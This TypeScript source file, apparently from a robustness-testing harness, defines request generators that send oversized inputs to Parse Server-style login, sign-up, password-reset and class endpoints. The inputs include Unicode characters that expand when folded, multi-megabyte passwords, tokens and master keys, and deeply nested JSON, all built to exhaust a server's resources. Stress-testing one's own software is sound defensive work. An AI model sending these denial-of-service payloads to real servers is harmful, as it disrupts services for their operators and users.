import { type RequestAttack, repeat, TEXT_TYPE } from "./requestAttack.ts";
import { enveloped } from "./target.ts";

export const ACCOUNTS: readonly RequestAttack[] = [
  {
    generator: "a name that folding makes 18 times as long",
    make: (target) =>
      repeat(5, () => ({
        path: "/server/login",
        headers: TEXT_TYPE,
        body: enveloped(target, { username: "\ufdfa".repeat(1_300_000), password: "p" }),
      })),
  },
  {
    generator: "a password of 4 MB",
    make: (target) => ({
      path: "/server/login",
      headers: TEXT_TYPE,
      body: enveloped(target, { username: "u", password: "p".repeat(4_000_000) }),
    }),
  },
  {
    generator: "a sign-up with a name of 4 MB",
    make: (target) => ({
      path: "/server/users",
      headers: TEXT_TYPE,
      body: enveloped(target, { username: "\ufdfa".repeat(1_300_000), password: "p" }),
    }),
  },
  {
    generator: "a reset for an address of 4 MB",
    make: (target) => ({
      path: "/server/requestPasswordReset",
      headers: TEXT_TYPE,
      body: enveloped(target, { email: `${"a".repeat(3_900_000)}@b` }),
    }),
  },
  {
    generator: "a signature of 4 MB",
    make: (target) => ({
      path: "/server/users",
      headers: TEXT_TYPE,
      body: enveloped(target, {
        authData: {
          moralisEth: { id: `0x${"a".repeat(40)}`, data: "d", signature: `0x${"ab".repeat(1_900_000)}` },
        },
      }),
    }),
  },
  {
    generator: "a session token of 4 MB",
    make: (target) => ({
      path: "/server/classes/Hostile",
      headers: TEXT_TYPE,
      body: enveloped(target, { _method: "GET", _SessionToken: "r".repeat(4_000_000) }),
    }),
  },
  {
    generator: "a master key of 4 MB",
    make: (target) => ({
      path: "/server/classes/Hostile",
      headers: TEXT_TYPE,
      body: enveloped(target, { _method: "GET", _MasterKey: "m".repeat(4_000_000) }),
    }),
  },
  {
    generator: "an installation id of 4 MB",
    make: (target) => ({
      path: "/server/classes/Hostile",
      headers: TEXT_TYPE,
      body: enveloped(target, { _method: "GET", _InstallationId: "i".repeat(4_000_000) }),
    }),
  },
  {
    generator: "a context of 4 MB as text",
    make: (target) => ({
      path: "/server/classes/Hostile",
      headers: TEXT_TYPE,
      body: enveloped(target, { _method: "GET", _context: `{"a":[${"[],".repeat(1_000_000)}[]]}` }),
    }),
  },
];
